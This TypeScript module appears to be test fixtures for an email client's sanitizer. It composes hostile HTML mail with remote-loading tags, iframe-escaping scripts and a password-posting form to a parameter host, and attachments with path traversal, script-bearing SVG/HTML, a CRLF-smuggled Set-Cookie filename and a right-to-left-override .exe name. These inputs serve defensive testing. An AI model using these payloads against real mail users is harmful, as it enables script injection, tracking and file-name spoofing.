import MailComposer from 'nodemailer/lib/mail-composer/index.js';

/** One pixel. */
export const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** HTML that tries to run, to load from a server of its sender, to get out of its frame, and to send a form. */
export function hostileHtml(elsewhere: string): string {
  return `<html><head>
<base href="${elsewhere}/">
<LINK rel="preconnect" href="${elsewhere}/preconnect"><link rel="stylesheet" href="${elsewhere}/style.css">
<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">
<style>@import url("${elsewhere}/import.css"); @font-face { font-family: f; src: url("${elsewhere}/font") }
p { background: url("${elsewhere}/background.png"); font-family: f }</style>
<script src="${elsewhere}/script.js"></script>
</head><body onload="parent.document.title = 'executed'">
</iframe><script>parent.document.title = 'executed'; document.body.id = 'executed'</script>
<p id="seen">Your order</p>
<img src="cid:logo@shop" alt="logo"><img src="${elsewhere}/pixel.png" srcset="${elsewhere}/2x.png 2x" alt="" onerror="document.body.id = 'executed'">
<video poster="${elsewhere}/poster.png" src="${elsewhere}/video"></video><object data="${elsewhere}/object"></object>
<iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>parent.parent.document.title = 'executed'</script>"></iframe>
<svg><script>document.body.id = 'executed'</script><image href="${elsewhere}/svg.png"/></svg>
<form action="${elsewhere}/form" method="post"><input name="password" value="secret"><button id="send">Send</button></form>
<a id="away" href="${elsewhere}/link">Track</a> <a id="inside" href="/faults">Faults</a>
</body></html>`;
}

export interface HostileAttachment {
  readonly filename: string;
  readonly content: string;
  readonly contentType?: string;
}

export const HOSTILE_ATTACHMENTS: readonly HostileAttachment[] = [
  { filename: '../../x', content: 'out of the folder' },
  {
    filename: 'picture.svg',
    contentType: 'image/svg+xml',
    content: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  },
  { filename: 'page.html', contentType: 'text/html', content: '<script>alert(1)</script>' },
  { filename: 'invoice"\r\nSet-Cookie: taken=1\r\n.pdf', content: 'a header of its own' },
  { filename: 'cod\u202Efdp.exe', content: 'an ending that reads backwards' },
];

export interface ComposedMail {
  readonly subject: string;
  readonly html?: string;
  readonly text?: string;
  readonly attachments?: readonly HostileAttachment[];
}

/** As a sender would compose it who uses what mail allows. */
export function compose({ subject, html, text, attachments = [] }: ComposedMail): Promise<Buffer> {
  const logo = { cid: 'logo@shop', content: PIXEL, encoding: 'base64', contentType: 'image/png' };
  return new MailComposer({
    from: '"<script>alert(1)</script>" <a@example.org>',
    to: 'marie@example.org',
    subject,
    ...(text === undefined ? {} : { text }),
    ...(html === undefined ? {} : { html }),
    attachments: [...(html === undefined ? [] : [logo]), ...attachments],
  })
    .compile()
    .build();
}
